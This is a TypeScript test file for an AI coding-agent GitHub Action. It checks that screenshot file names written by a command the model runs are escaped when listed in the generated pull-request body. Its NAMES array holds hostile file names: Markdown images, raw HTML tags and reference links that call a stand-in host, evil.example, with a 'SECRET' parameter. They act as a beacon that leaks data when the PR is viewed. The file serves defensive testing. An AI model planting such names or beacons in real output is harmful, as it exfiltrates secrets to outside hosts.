import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPrBody } from '../../src/forge/pr-body.ts';
import { startAction } from '../support/action-process.ts';
import { checkedOutWorkspace, startGitServer, type GitServer } from '../support/git-server.ts';
import { startGitHubServer, type GitHubServer } from '../support/github-server.ts';

/**
 * The PR body lists the PNG files in the out dir's `screenshots/` as links. browser_action names
 * its own, but the out dir sits in the workspace, and a run without a sandbox (`sandbox: none`, or
 * `auto` on a runner where bubblewrap cannot start) lets any command the model runs (a test it
 * wrote) put files there. A file's name is then Markdown in the body: an image GitHub fetches when
 * anyone opens the PR (a beacon carrying what the run read, in its URL), raw HTML, a reference
 * definition on a line of its own. Each name must stay one list item whose text is literal and
 * whose link is a relative path, whatever characters the name has.
 */
const NAMES = [
  '![x](https:evil.example?d=SECRET).png',
  '<img src=https:evil.example?d=SECRET>.png',
  '<picture><source srcset=https:evil.example?d=1>.png',
  'x)![y](https:evil.example?d=2).png',
  'a](https:evil.example?d=3) ![b.png',
  '```![x](https:evil.example?d=4)```.png',
  'n\n\n[r]: https:evil.example?d=5\n\n![x][r].png',
  'c\r<!-- hide the rest.png',
  'sp ace\u202e%41#q.png',
];

/**
 * `- [text](relative link)`, nothing else on the line: in the text every character Markdown or HTML
 * would act on is escaped (no `[`, `]`, `<`, `>` or backtick of its own), the link is encoded.
 */
const ITEM = /^- \[((?:\\.|[^\\[\]<>`])*)\]\(screenshots\/[A-Za-z0-9._~%-]+\)$/;

function expectListed(body: string, count: number): void {
  const lines = body.split('\n');
  const start = lines.findIndex((l) => l.startsWith('Taken by browser_action'));
  expect(start).toBeGreaterThan(0);
  const items = lines.slice(start + 2, start + 2 + count);
  for (const item of items) expect(item, item).toMatch(ITEM);
  // The list ends there: the next line is the section break, not a name's leftover.
  expect(lines[start + 2 + count]).toBe('');
}

describe('screenshot names in the pull request body', () => {
  it('each name, whatever it holds, is one item: literal text linking to a relative path', () => {
    const body = buildPrBody({
      taskTitle: 't',
      prompt: 'p',
      todos: [],
      totals: {
        turns: 1,
        tool_calls: 1,
        rejected: 0,
        denied: 0,
        input_tokens: 1,
        output_tokens: 1,
        cache_read_tokens: 0,
        cache_write_tokens: 0,
        cost_usd: 0,
        duration_ms: 1,
      },
      auditLogPath: 'a',
      screenshots: [...NAMES, '002-click.png'].map((n) => `screenshots/${n}`),
    });
    expectListed(body, NAMES.length + 1);
    // A name browser_action gave reads as it did.
    expect(body).toContain('- [screenshots/002-click.png](screenshots/002-click.png)\n');
  });
});

const TOKEN = 'ghs_screenshotNames1234567890ab';
/** A command the model runs: it writes PNG files with hostile names into the run's out dir. */
const SHOOT = `const fs = require('fs');
const runs = '.nightshift/runs';
const dir = runs + '/' + fs.readdirSync(runs)[0] + '/screenshots';
fs.mkdirSync(dir, { recursive: true });
for (const name of ${JSON.stringify(NAMES)}) fs.writeFileSync(dir + '/' + name, 'png');
`;
const TASK = `version: 1
title: Fix add
prompt: Fix add.
model: { provider: script, script: turns.yaml }
policy: policy.yaml
`;
const POLICY = `version: 1
extends: builtin:standard
sandbox: none
command: { allow: ['node shoot.js'] }
`;
const TURNS = `- tool_calls:
    - name: execute_command
      args: { command: node shoot.js }
- tool_calls:
    - name: write_to_file
      args: { path: src/math.js, content: "export const add = (a, b) => a + b;\\n" }
- tool_calls:
    - name: attempt_completion
      args: { result: Fixed. }
`;

let gitServer: GitServer;
let gh: GitHubServer;
beforeAll(async () => {
  gitServer = await startGitServer({ token: TOKEN, repo: 'octo/demo' });
  gh = await startGitHubServer({ token: TOKEN });
});
afterAll(async () => {
  await gitServer.close();
  await gh.close();
});

describe('end to end: names a command wrote into the out dir', () => {
  it('reach the PR on GitHub as inert items', { timeout: 60_000 }, async () => {
    const workspace = checkedOutWorkspace(gitServer, {
      'src/math.js': 'export const add = (a, b) => a - b;\n',
      'nightshift/task.yaml': TASK,
      'nightshift/policy.yaml': POLICY,
      'nightshift/turns.yaml': TURNS,
      'shoot.js': SHOOT,
    });
    const action = startAction({
      workspace,
      inputs: { 'task-file': 'nightshift/task.yaml', 'github-token': TOKEN, 'open-pr': 'true' },
      env: { GITHUB_API_URL: gh.url, GITHUB_SERVER_URL: gitServer.serverUrl },
    });
    const { code } = await action.exited;
    const outputs = action.outputs();
    expect(code, action.stdout()).toBe(0);
    expect(outputs['pr-operation']).toBe('created');
    const pull = gh.pulls.find((p) => p.number === Number(outputs['pr-number']));
    expect(pull?.body).toContain('## Screenshots');
    expectListed(pull?.body ?? '', NAMES.length);
    expect(gh.violations).toEqual([]);
  });
});
